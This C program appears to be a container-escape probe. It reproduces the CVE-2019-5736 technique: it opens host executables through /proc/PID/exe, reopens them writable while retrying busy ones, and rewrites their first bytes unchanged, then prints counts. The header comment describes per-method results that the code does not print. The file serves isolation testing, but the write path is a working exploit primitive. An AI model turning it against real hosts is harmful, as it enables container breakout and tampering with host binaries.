/*
 * hunt MILLISECONDS: looks for programs of the host that come into this pid namespace, and tries to write into their
 * executable files, as CVE-2019-5736 did. It writes the bytes that are there already. Prints how many it met, and for
 * each way how the best attempt ended: "ok" is an escape.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int met, written, refused, caught[64], catches;

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1e3 + t.tv_nsec / 1e6;
}

/* Whether the file of the descriptor could be written. Busy ones are kept, to be tried again when they are not. */
static int attack(int held) {
    char path[64], head[4];
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    int file = open(path, O_RDWR | O_CLOEXEC);
    if (file < 0) return errno == ETXTBSY ? -1 : 0;
    int done = pread(file, head, 4, 0) == 4 && pwrite(file, head, 4, 0) == 4;
    close(file);
    return done;
}

static void try_process(const char *pid, const struct stat *own) {
    char path[288];
    struct stat stat;
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int held = open(path, O_PATH | O_CLOEXEC);
    if (held < 0) {
        if (errno != ENOENT && errno != ESRCH) refused++;
        return;
    }
    if (fstat(held, &stat) || (stat.st_dev == own->st_dev && stat.st_ino == own->st_ino)) {
        close(held);
        return;
    }
    met++;
    int result = attack(held);
    if (result > 0) written++;
    if (result < 0 && catches < 64) caught[catches++] = held;
    else close(held);
}

int main(int argc, char **argv) {
    double end = now() + (argc > 1 ? atoi(argv[1]) : 1000);
    struct stat own;
    stat("/proc/self/exe", &own);
    while (now() < end) {
        DIR *all = opendir("/proc");
        for (struct dirent *each; (each = readdir(all));)
            if (each->d_name[0] >= '0' && each->d_name[0] <= '9') try_process(each->d_name, &own);
        closedir(all);
        for (int at = 0; at < catches; at++)
            if (attack(caught[at]) > 0) written++;
    }
    printf("{\"met\":%d,\"refused\":%d,\"written\":%d}\n", met, refused, written);
    return 0;
}
